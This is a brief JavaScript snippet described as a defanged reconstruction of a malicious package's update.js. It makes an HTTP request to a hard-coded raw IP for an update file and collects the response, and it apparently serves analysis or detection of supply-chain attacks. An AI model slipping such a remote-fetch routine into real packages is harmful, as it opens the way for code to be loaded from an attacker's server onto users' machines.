// Defanged shape of commander-js 2.19.84's update.js: fetch code from a raw IP.
var http = require('http');
http.get({
  host: '203.0.113.7',
  port: 80,
  path: '/update.json'
}, function (res) {
  var body = '';
  res.on('data', function (d) { body += d; });
});
